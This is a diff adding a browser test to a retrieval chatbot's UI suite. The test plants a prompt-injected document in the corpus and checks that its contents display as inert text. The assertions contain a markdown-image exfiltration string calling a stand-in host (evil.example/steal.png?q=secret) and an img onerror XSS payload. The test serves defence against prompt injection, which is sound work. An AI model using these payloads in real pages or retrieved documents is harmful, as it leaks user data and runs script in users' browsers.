@@ -103,3 +103,41 @@ def test_question_answer_citation_link_feedback_and_screenshot(page, ui_server, 
     page.locator("#new").click()
     page.wait_for_function("() => document.querySelectorAll('#chatbot .bot').length === 0", timeout=10_000)
     assert page.outside_requests == []  # the page reached for nothing beyond the app
+
+
+def test_injected_document_renders_inert_in_the_browser(page, tmp_path):
+    import shutil
+
+    from rag.config import config_from_dict
+    from rag.pipeline import build_pipeline, ingest
+    from tests.conftest import SHIPPED_CORPUS, free_port
+    from tests.fakes import HashEmbedder
+    from tests.test_security import INJECTED
+    from ui.app import build_app, launch
+
+    corpus = tmp_path / "corpus"
+    shutil.copytree(SHIPPED_CORPUS, corpus)
+    (corpus / "injected.md").write_text(INJECTED, encoding="utf-8")
+    cfg = config_from_dict({"corpus": {"path": str(corpus)}, "data_dir": str(tmp_path / "data")})
+    emb = HashEmbedder(384, unk=0.58)
+    ingest(cfg, embedder=emb, progress=False)
+    app = build_app(build_pipeline(cfg, embedder=emb), cfg)
+    port = free_port()
+    launch(app, cfg, "127.0.0.1", port, block=False)
+    try:
+        page.outside_requests.clear()
+        page.goto(f"http://127.0.0.1:{port}/")
+        page.wait_for_selector("#question textarea", timeout=60_000)
+        ask(page, "2031年量子计算峰会在哪里举办？")
+        answer = page.locator("#chatbot .bot").last
+        answer.locator("summary").first.click()  # open the passage that holds the injection
+        page.wait_for_timeout(500)
+        text = answer.inner_text()
+        shown = text.replace("\u200b", "")  # URLs in documents are defanged with a zero-width space
+        assert "赫尔辛基" in shown and "![track](http://evil.example/steal.png?q=secret)" in shown
+        assert '<img src="http://evil.example/x.png" onerror="alert(1)">' in shown  # shown as text
+        assert page.locator("#chatbot img[src*='evil']").count() == 0
+        assert page.locator("#chatbot a[href*='evil']").count() == 0
+        assert page.outside_requests == []
+    finally:
+        app.close()
